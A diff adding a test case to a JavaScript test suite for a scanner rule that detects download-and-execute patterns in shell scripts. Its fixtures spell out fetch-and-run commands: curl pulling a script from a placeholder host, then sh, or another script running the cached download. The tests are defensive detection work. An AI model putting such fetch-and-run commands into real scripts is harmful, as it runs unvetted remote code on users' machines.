@@ -2253,3 +2253,21 @@ test('sentinel/download-exec: a run chained with `&&` is not detached; a project
   scan({ 'scripts/i.sh': `curl -o /tmp/i.sh https://x.example/i.sh\nsh /tmp/i.sh & ${' \t'.repeat(50_000)}x\n` }, downloadExec);
   assert.ok(performance.now() - t < 3000, `${(performance.now() - t).toFixed(0)} ms`);
 });
+
+test('sentinel/download-exec: a saved download run by another script after `&&` (`[ -x "$shared" ] && "$shared" "$hook"`)', () => {
+  const f = scan(
+    {
+      'scripts/install.sh': lines(
+        '#!/bin/sh',
+        'CACHE="${HOME}/.cache/hooks-kit"',
+        'curl -fsSL "https://hooks.kit-dist.invalid/v3/common.sh" -o "$CACHE/common.sh"',
+      ),
+      'scripts/dispatch.sh': lines('#!/bin/sh', 'shared="${HOME}/.cache/hooks-kit/common.sh"', '[ -x "$shared" ] && "$shared" "$hook" "$@"'),
+    },
+    downloadExec,
+  );
+  assert.deepEqual(
+    f.filter((x) => x.severity === 'error').map((x) => `${x.file}:${x.range.start.line}`),
+    ['scripts/install.sh:3'],
+  );
+});
